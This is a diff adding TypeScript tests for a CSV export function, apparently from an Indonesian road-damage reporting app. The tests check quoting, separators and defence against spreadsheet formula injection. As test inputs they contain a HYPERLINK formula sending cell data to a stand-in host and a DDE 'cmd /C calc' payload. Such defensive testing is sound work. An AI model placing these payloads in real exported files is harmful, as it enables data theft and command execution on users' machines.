@@ -1,0 +1,84 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { writeCsv } from "./csv.ts";
+import type { Cell, Table } from "./table.ts";
+
+/** A table of one column of texts. */
+const tableOf = (...texts: Cell[]): Table => ({
+  columns: [{ name: "Judul", kind: "text" }],
+  rows: texts.map((text) => [text]),
+});
+
+const line = (cell: Cell): string => writeCsv(tableOf(cell), ";").split("\r\n").slice(1).join("\r\n");
+
+describe("a table as CSV", () => {
+  test("has a byte order mark, the names of the columns, and the separator of the language", () => {
+    const table: Table = {
+      columns: [
+        { name: "Judul", kind: "text" },
+        { name: "Umur (hari)", kind: "number" },
+        { name: "Masuk", kind: "time" },
+      ],
+      rows: [
+        ["Lubang, besar; sekali", 3, { time: "2026-11-24T09:15" }],
+        [undefined, undefined, undefined],
+      ],
+    };
+    const lines = ['"Lubang, besar; sekali";3;2026-11-24 09:15', ";;", ""];
+    assert.equal(writeCsv(table, ";"), ['\uFEFF"Judul";"Umur (hari)";"Masuk"', ...lines].join("\r\n"));
+    assert.match(
+      writeCsv(table, ","),
+      /^\uFEFF"Judul","Umur \(hari\)","Masuk"\r\n"Lubang, besar; sekali",3,/,
+    );
+  });
+
+  test("doubles quotes and keeps line breaks within a cell", () => {
+    assert.equal(line('Kata "lubang"\nbesar'), '"Kata ""lubang""\nbesar"\r\n');
+  });
+
+  // The list of OWASP: https://owasp.org/www-community/attacks/CSV_Injection
+  for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+    test(`prevents a text that begins with ${JSON.stringify(start)} from becoming a formula`, () => {
+      for (const before of ["", " ", "\u00A0", "\u200B", "\uFEFF", "\n"]) {
+        const text = `${before}${start}HYPERLINK("https://jahat.example?"&A1)`;
+        // A line break divides a text as a separator does.
+        const guarded = before === "\n" && !/\s/.test(start) ? `${before}'${text.slice(1)}` : text;
+        assert.equal(line(text), `"'${guarded.replaceAll('"', '""')}"\r\n`);
+      }
+    });
+
+  test("leaves other texts unchanged, also with such a character in the middle", () => {
+    for (const text of [
+      "Jalan 2+3",
+      "a=b",
+      "'=1",
+      "Lampu - mati",
+      "surel a@b.id",
+      "5 - 3",
+      "Lampu, pohon; kabel",
+      "",
+    ])
+      assert.equal(line(text), `"${text}"\r\n`);
+  });
+
+  test("prevents a text from starting a new cell with a formula", () => {
+    for (const [text, written] of [
+      ['";=1+1;"', '";\'=1+1;"'],
+      ['",=1+1,"', '",\'=1+1,"'],
+      ['"\r\n=1+1', "\"\r\n'=1+1"],
+    ] as const)
+      assert.equal(line(text), `"${written.replaceAll('"', '""')}"\r\n`);
+  });
+
+  test("lets no text start a formula where a spreadsheet expects another separator", () => {
+    for (const separator of [",", ";", "\t"])
+      for (const space of ["", " ", "\u200B"])
+        for (const start of ["=", "+", "-", "@", "＝"]) {
+          const text = `Jalan rusak${separator}${space}${start}cmd|' /C calc'!A0`;
+          const cells = line(text)
+            .slice(1)
+            .split(/[,;\t]/);
+          assert.equal(cells[1], `${space}'${start}cmd|' /C calc'!A0"\r\n`);
+        }
+  });
+});
